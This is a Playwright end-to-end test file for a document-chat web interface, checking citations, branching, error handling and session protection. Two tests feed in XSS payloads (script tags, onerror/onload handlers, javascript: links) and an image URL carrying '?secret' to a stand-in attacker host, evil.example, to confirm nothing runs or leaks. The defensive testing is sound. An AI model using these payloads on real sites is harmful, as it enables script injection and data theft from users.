"""The chat, in a real browser on the real platform."""

import json
import re

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.e2e.clients import http_client
from tests.e2e.documents import HARBOUR, LIGHTHOUSE
from tests.e2e.web.pages import Watch, add_files, answered, ask, sign_in, text_file, violations
from tests.platforms import Platform

COLLECTION = "seen-in-a-browser"
QUESTION = "What is the range of the lamp of the lighthouse?"


@pytest.fixture(scope="module", autouse=True)
def uploaded(signed_in: BrowserContext) -> None:
    """A collection, made and filled by the page."""
    page = signed_in.new_page()
    page.goto("/chat")
    add_files(page, COLLECTION, [text_file("lighthouse.md", LIGHTHOUSE), text_file("harbour.md", HARBOUR)])
    page.get_by_role("button", name="Ask about them").click()
    expect(page.get_by_role("button", name=f"Collections: {COLLECTION}")).to_be_visible()
    page.close()


def test_an_answers_source_can_be_checked_and_the_conversation_branches_and_goes(page: Page) -> None:
    page.goto("/chat")
    ask(page, QUESTION)
    answered(page)
    expect(page.locator(".answer")).to_contain_text("31 nautical miles")
    page.get_by_role("button", name=re.compile("^Source ")).first.click()
    source = page.get_by_role("complementary", name=re.compile("^Source "))
    marked = source.locator("mark")
    expect(marked).to_have_text("The lamp of the lighthouse has a range of 31 nautical miles.")
    expect(marked).to_be_in_viewport()
    expect(source).to_be_focused()
    assert violations(page) == []
    page.keyboard.press("Escape")
    expect(source).to_be_hidden()

    address = page.url
    page.get_by_role("button", name="Answer again").click()
    expect(page.get_by_text("2/2")).to_be_visible(timeout=60_000)
    assert page.url == address
    page.reload()
    expect(page.locator(".answer")).to_contain_text("31 nautical miles")
    page.get_by_role("button", name="Earlier version").click()
    expect(page.get_by_text("1/2")).to_be_visible()
    page.get_by_role("button", name="Good answer").click()
    expect(page.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")

    page.locator(".history-item", has=page.locator("[aria-current]")).get_by_role("button").click()
    page.get_by_role("menuitem", name="Delete").click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page).to_have_url(re.compile("/chat$"))


def test_an_answer_can_be_stopped_and_its_question_edited(page: Page) -> None:
    page.goto("/chat")
    ask(page, "Tell everything about the lighthouse, its lamp, its keeper and its tower, at great length.")
    expect(page.get_by_role("status").first).to_contain_text(f"Searching {COLLECTION}")
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.get_by_text("This answer is not kept.")).to_be_visible()
    page.get_by_role("button", name="Edit the question").click()
    expect(page.get_by_label("Your question")).to_have_value(re.compile("^Tell everything"))
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_enabled()


def test_without_an_answer_the_page_says_what_was_searched(page: Page) -> None:
    page.goto("/chat")
    ask(page, "Who won the chess championship of Venezuela?")
    answered(page)
    searched = page.get_by_role("complementary", name="What was searched")
    expect(searched).to_contain_text(COLLECTION)


def test_the_chat_loads_little_and_the_console_comes_when_it_is_opened(page: Page) -> None:
    loaded = "performance.getEntriesByType('resource').filter(e => e.name.endsWith('.js')).map(e => e.encodedBodySize)"
    page.goto("/chat")
    expect(page.get_by_label("Your question")).to_be_visible()
    chat: list[int] = page.evaluate(loaded)
    assert 0 < sum(chat) < 300_000
    page.get_by_role("link", name="Console").click()
    expect(page.get_by_role("heading", name="Collections")).to_be_visible()
    assert len(page.evaluate(loaded)) > len(chat)


def test_an_error_says_what_to_do_and_the_question_is_not_lost(page: Page, watch: Watch) -> None:
    watch.expected = ("503",)
    refused = {"error": {"message": "The engine is starting; try again in a minute.", "code": "engine_unavailable"}}
    page.goto("/chat")
    page.route("**/v1/responses", lambda route: route.fulfill(status=503, json=refused), times=1)
    ask(page, QUESTION)
    expect(page.get_by_role("alert")).to_contain_text("try again in a minute")
    page.get_by_role("button", name="Edit the question").click()
    expect(page.get_by_label("Your question")).to_have_value(QUESTION)


HOSTILE = """# <script>alert(1)</script>

The <img src=x onerror=alert(2)> keeper <svg/onload=alert(3)> of the [vault](javascript:alert(4)) is Nils Berg.

![pixel](https://evil.example/pixel.png)
"""


def test_hostile_documents_and_names_run_nothing(page: Page) -> None:
    name = "<img src=x onerror=alert(5)>.md"
    page.goto("/chat")
    add_files(page, "hostile", [text_file(name, HOSTILE)])
    page.goto("/console/search?collection=hostile")
    page.get_by_label("Question").fill("Who is the keeper of the vault?")
    page.get_by_role("button", name="Search").click()
    expect(page.get_by_text("<svg/onload=alert(3)>").first).to_be_visible()
    page.goto("/console/collections/hostile")
    page.get_by_role("link", name=name).click()
    expect(page.get_by_text("<svg/onload=alert(3)>").first).to_be_visible()
    assert page.locator("img[src=x]").count() == 0


def test_a_hostile_model_runs_nothing_and_reaches_nobody(page: Page) -> None:
    words = (
        "<script>alert(6)</script><img src=x onerror=alert(7)>\n\n"
        "![a](https://evil.example/?secret) [click](javascript:alert(8)) "
        "<iframe src=https://evil.example></iframe> [1] **bold**"
    )
    delta = {"type": "response.output_text.delta", "delta": words}
    stream = f"event: {delta['type']}\ndata: {json.dumps(delta)}\n\n"
    page.goto("/chat")
    page.route("**/v1/responses", lambda route: route.fulfill(content_type="text/event-stream", body=stream), times=1)
    ask(page, "Anything?")
    answer = page.locator(".answer")
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer).to_contain_text("<script>alert(6)</script>")
    expect(answer.get_by_role("alert")).to_contain_text("broke off")
    assert answer.locator("script, img, iframe").count() == 0
    assert answer.locator("a[href^='javascript']").count() == 0


def test_no_script_can_read_the_session_and_signing_out_ends_it(browser: Browser, platform: Platform) -> None:
    with browser.new_context(base_url=platform.url) as context:
        page = context.new_page()
        with http_client(platform) as client:
            policy = client.get("/", headers={"accept": "text/html"}).headers["content-security-policy"]
        assert "unsafe" not in policy
        page.goto("/sign-in")
        assert violations(page) == []
        page.get_by_label("API key").fill("rw-" + "0" * 64)
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert")).to_contain_text("not valid")
        sign_in(page, platform.key)
        assert page.evaluate("document.cookie + JSON.stringify(localStorage) + location.href").find(platform.key) < 0
        assert page.evaluate("document.cookie") == ""
        page.get_by_role("button", name="Account: operator").click()
        page.get_by_role("menuitem", name="Sign out").click()
        expect(page.get_by_label("API key")).to_be_visible()
        page.goto("/chat")
        expect(page.get_by_label("API key")).to_be_visible()
